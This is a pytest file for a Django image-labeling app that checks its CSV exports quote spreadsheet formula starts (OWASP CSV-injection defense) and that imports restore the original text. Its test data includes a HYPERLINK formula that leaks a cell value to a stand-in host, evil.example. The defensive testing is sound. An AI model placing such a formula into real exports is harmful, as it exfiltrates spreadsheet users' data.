"""CSV files the app writes cannot run formulas in a spreadsheet: a cell starting with =,
+, -, @, a tab or a carriage return is written after a single quote (OWASP), and the
tag import takes the quote off again, so its round trip stays exact."""

from __future__ import annotations

import csv
import io
import zipfile

import pytest

from labeling import services
from labeling.csv_cells import escaped, unescaped
from labeling.models import Image, Project, TagAnnotation
from models_app.archive import project_export
from models_app.predictor import Manifest, Skipped, write_csv
from tests.factories import image_upload

LINK = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
NASTY = [LINK, "-1", "+1", "@SUM(A1:A2)", "\tTab", "\rReturn", "=1+1"]
# Starts a spreadsheet reads as text: no quote needed, and none taken off on import.
PLAIN = ["plain", "1", "", "'quoted'", "'a", "a=b", " -1", "sha-1"]
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def no_formula_in(rows: list[list[str]]) -> None:
    for row in rows:
        for cell in row:
            assert not cell.startswith(FORMULA_STARTS), (cell, row)


def test_a_cell_a_spreadsheet_would_run_gets_one_quote_and_comes_back_exactly():
    for text in NASTY:
        assert escaped(text) == "'" + text
    for text in PLAIN:
        assert escaped(text) == text
    # A quote before a formula start, or before a quote, is doubled: one is taken off.
    for text in ["'=1", "''", "'-1", "'''=x", "'\t"]:
        assert escaped(text) == "'" + text
    for text in [*NASTY, *PLAIN, "'=1", "''", "'", "'''=x", "'\t", "x'"]:
        assert unescaped(escaped(text)) == text
    assert escaped(-1) == -1 and escaped(0.5) == 0.5  # numbers are the writer's own


@pytest.mark.django_db
def test_the_tag_csv_quotes_nasty_names_and_imports_back_exactly(owner):
    def shop(name):
        project = services.project_create(name=name, user=owner, kind=Project.Kind.MULTI)
        tags = [services.label_class_create(project=project, name=n) for n in (LINK, "-1", "ok")]
        files = [
            image_upload(i, name=n) for i, n in enumerate(["=SUM(1,2).png", "-2.png", "@x.png"])
        ]
        results = services.images_ingest(project=project, files=files, user=owner)
        return project, tags, [Image.objects.get(pk=r.image_id) for r in results]

    project, tags, images = shop("Source")
    services.image_tags_set(image=images[0], present=[tags[0].pk], annotator=owner)
    services.image_tags_set(image=images[1], present=[tags[1].pk, tags[2].pk], annotator=owner)
    services.images_tag_set(
        project=project, image_ids=[images[2].pk], tag=tags[0], present=False, annotator=owner
    )
    text = services.project_tags_export(project=project, file_format="csv")
    rows = cells(text)
    no_formula_in(rows)
    assert rows[0] == ["image", "sha256", "split", "'" + LINK, "'-1", "ok"]
    assert sorted(r[0] for r in rows[1:]) == ["'-2.png", "'=SUM(1,2).png", "'@x.png"]

    # Into a copy with the same tags and images: matched by hash, and by the names alone.
    for columns in (None, ["image", *rows[0][3:]]):
        copy, copy_tags, copy_images = shop(f"Copy {columns is None}")
        content = text
        if columns:
            out = io.StringIO()
            csv.writer(out, lineterminator="\n").writerows([[r[0], *r[3:]] for r in rows])
            content = out.getvalue()
        result = services.project_tags_import(
            project=copy, name="tags.csv", content=content.encode(), user=owner
        )
        assert result.images == 3 and result.missing == 0

        def held(of):
            rows = TagAnnotation.objects.filter(image__project=of, is_current=True)
            return sorted(
                (r.image.original_name, r.tag.name, r.state)
                for r in rows.select_related("image", "tag")
            )

        assert held(copy) == held(project)
        assert len(held(copy)) == 7


@pytest.mark.django_db
def test_the_project_zip_labels_csv_quotes_class_and_file_names(project, owner):
    link = services.label_class_create(project=project, name=LINK)
    results = services.images_ingest(
        project=project, files=[image_upload(1, name="-1.png")], user=owner
    )
    services.annotation_create(
        image=Image.objects.get(pk=results[0].image_id), label_class=link, annotator=owner
    )
    out = io.BytesIO()
    project_export(project=project, out=out)
    rows = cells(zipfile.ZipFile(out).read("labels.csv").decode())
    no_formula_in(rows)
    assert rows[1][1] == "'" + LINK and rows[1][5] == "'-1.png"


def test_the_standalone_predictors_csv_quotes_names(tmp_path):
    single = Manifest("single", [7], [LINK], None, "image", [], 1, {})
    path = tmp_path / "single.csv"
    row = {
        "file": "-1.png",
        "class": LINK,
        "class_id": 7,
        "confidence": 0.9,
        "top_k": [{"class": LINK, "probability": 0.9}],
    }
    write_csv(path, single, [row], [Skipped("@bad.png", "=not an image")])
    rows = cells(path.read_text())
    no_formula_in(rows)
    assert rows[1] == ["'-1.png", "'" + LINK, "7", "0.900000", f"'{LINK}:0.900000", ""]
    assert rows[2] == ["'@bad.png", "", "", "", "", "'=not an image"]

    tags = Manifest("multi", [7, 8], ["+tag", "ok"], None, "image", [0.5, 0.5], 1, {})
    path = tmp_path / "tags.csv"
    write_csv(
        path,
        tags,
        [
            {
                "file": "=a.png",
                "tags": [{"tag": "+tag"}],
                "probabilities": {"+tag": 0.75, "ok": 0.25},
            }
        ],
        [],
    )
    rows = cells(path.read_text())
    no_formula_in(rows)
    assert rows == [
        ["file", "tags", "'+tag", "ok", "error"],
        ["'=a.png", "'+tag", "0.750000", "0.250000", ""],
    ]
